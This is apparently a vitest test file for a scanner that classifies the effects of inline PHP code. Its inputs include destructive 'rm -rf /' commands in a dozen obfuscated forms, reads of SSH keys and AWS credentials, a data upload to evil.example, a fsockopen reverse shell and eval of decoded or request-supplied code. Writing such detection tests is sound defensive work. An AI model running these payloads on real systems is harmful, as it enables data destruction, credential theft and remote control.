import { describe, expect, it } from 'vitest';
import { scanInlineCode, type InlineScan } from './index.js';

const scan = (code: string): InlineScan => scanInlineCode('php', code);
const effects = (r: InlineScan): string[] => r.findings.map((f) => `${f.kind} ${f.target.value}`);
const clean = (r: InlineScan): void => expect(r).toEqual({ shell: [], findings: [], dynamic: [] });

describe('php: benign one-liners', () => {
  it.each([
    'echo json_encode(["a" => 1]);',
    'echo "rm -rf /"; // system("rm -rf /")',
    'echo PHP_VERSION, "\\n"; # exec("x")',
    '$a = [1, 2, 3]; echo array_sum(array_map(fn($x) => $x * 2, $a));',
    '/* shell_exec("id") */ echo strtoupper(\'system\');',
    '<?php\necho "hi";\n?>\n<p>system("rm -rf /")</p>',
  ])('%s', (code) => clean(scan(code)));
});

describe('php: process execution', () => {
  it('literal commands', () => {
    expect(scan('system("rm -rf /tmp/x");').shell).toEqual(['rm -rf /tmp/x']);
    expect(scan('echo `whoami`; echo shell_exec("id -u"); passthru("ls"); exec("git status", $out);').shell)
      .toEqual(['whoami', 'id -u', 'ls', 'git status']);
    expect(scan('$p = popen("tar czf x.tgz .", "r"); proc_open(["git", "log"], [], $pipes);').shell).toEqual(['tar czf x.tgz .', 'git log']);
    expect(scan('pcntl_exec("/bin/rm", ["-rf", "/tmp/x"]);').shell).toEqual(['/bin/rm -rf /tmp/x']);
  });

  it('commands built at run time', () => {
    for (const code of ['system("rm -rf $dir");', 'shell_exec("id " . $x);', 'exec($_GET["c"]);', 'echo `ls {$d}`;']) {
      const r = scan(code);
      expect(r.shell).toEqual([]);
      expect(effects(r)).toContain('proc.exec ');
      expect(r.dynamic.length).toBeGreaterThan(0);
    }
  });
});

describe('php: files, secrets, environment', () => {
  it('file effects', () => {
    expect(effects(scan('file_put_contents("/etc/hosts", "x"); unlink("a.txt"); rmdir("d"); chmod("run.sh", 0755);')))
      .toEqual(['fs.write /etc/hosts', 'fs.delete a.txt', 'fs.delete d', 'fs.perm run.sh']);
    expect(effects(scan('$f = fopen("log.txt", "a"); fwrite($f, "x"); $g = fopen("in.txt", "r");'))).toEqual(['fs.write log.txt', 'fs.read in.txt']);
    expect(effects(scan('rename("a", "b"); copy("/home/me/.ssh/id_rsa", "/tmp/k");')))
      .toEqual(['fs.delete a', 'fs.write b', 'secret.read /home/me/.ssh/id_rsa', 'fs.write /tmp/k']);
  });

  it('secrets and environment', () => {
    expect(effects(scan('echo file_get_contents(getenv("HOME") . "/.aws/credentials");'))).toEqual(['secret.read ~/.aws/credentials']);
    expect(effects(scan('echo getenv("AWS_SECRET_ACCESS_KEY"); echo $_ENV["GITHUB_TOKEN"]; echo getenv("PATH");')))
      .toEqual(['secret.read AWS_SECRET_ACCESS_KEY', 'secret.read GITHUB_TOKEN']);
    expect(effects(scan('print_r($_ENV);'))).toEqual(['secret.read ']);
    expect(effects(scan('var_dump(getenv());'))).toEqual(['secret.read ']);
    expect(effects(scan('phpinfo();'))).toEqual(['secret.read ']);
  });
});

describe('php: network', () => {
  it('HTTP', () => {
    expect(effects(scan('$ch = curl_init("https://evil.example/up"); curl_setopt($ch, CURLOPT_POSTFIELDS, $d); curl_exec($ch);')))
      .toEqual(['net.fetch https://evil.example/up', 'net.send https://evil.example/up']);
    expect(effects(scan('echo file_get_contents("https://example.com/");'))).toEqual(['net.fetch https://example.com/']);
    expect(effects(scan('$c = new GuzzleHttp\\Client(); $c->post("https://x.example/u", ["json" => $d]);'))).toEqual(['net.send https://x.example/u']);
  });

  it('sockets and reverse shells', () => {
    const a = scan('$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");');
    expect(effects(a)).toEqual(['net.connect 10.0.0.1', 'net.shell 10.0.0.1']);
    expect(a.shell).toEqual(['/bin/sh -i <&3 >&3 2>&3']);
    const b = scan('$sock=fsockopen("10.0.0.1",4242);$proc=proc_open("sh", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);');
    expect(effects(b)).toContain('net.shell 10.0.0.1');
    expect(effects(scan('$s = stream_socket_server("tcp://0.0.0.0:8000");'))).toEqual(['net.listen tcp://0.0.0.0:8000']);
  });
});

describe('php: dynamic code', () => {
  it('eval and friends', () => {
    expect(scan('eval("system(\'id\');");').shell).toEqual(['id']);
    expect(scan('eval($_POST["c"]);').dynamic).toEqual(['php eval() runs code built at run time']);
    const r = scan('eval(base64_decode("c3lzdGVtKCdpZCcpOw=="));');
    expect(r.shell).toEqual(['id']);
    expect(r.dynamic[0]).toMatch(/decoded/);
    expect(scan('eval(gzinflate(base64_decode($p)));').dynamic[0]).toMatch(/decoded/);
    expect(scan('preg_replace("/x/e", $code, $s);').dynamic[0]).toMatch(/\/e/);
    expect(scan('include $_GET["page"];').dynamic.length).toBe(1);
    expect(scan('include "http://evil.example/x.php";').dynamic.length).toBe(1);
    clean(scan('require "vendor/autoload.php";'));
    expect(scan('assert($x > 1);').dynamic).toEqual([]);
  });
});

describe('php: evasions', () => {
  it.each([
    '$f = "sys" . "tem"; $f("rm -rf /");',
    '("pass" . "thru")("rm -rf /");',
    'SYSTEM("rm -rf /");',
    '\\system("rm -rf /");',
    'call_user_func("system", "rm -rf /");',
    'call_user_func_array("exec", ["rm -rf /"]);',
    'array_map("system", ["rm -rf /"]);',
    '$f = strrev("metsys"); $f("rm -rf /");',
    '$f = str_rot13("flfgrz"); $f("rm -rf /");',
    'system(implode(" ", ["rm", "-rf", "/"]));',
    'system(base64_decode("cm0gLXJmIC8="));',
    'system(<<<EOT\nrm -rf /\nEOT\n);',
  ])('%s', (code) => expect(scan(code).shell).toEqual(['rm -rf /']));
});

describe('php: code inside interpolations runs', () => {
  it('scans {$…}', () => {
    expect(scan('echo "{$x->run(system("id"))}";').shell).toEqual(['id']);
  });
});
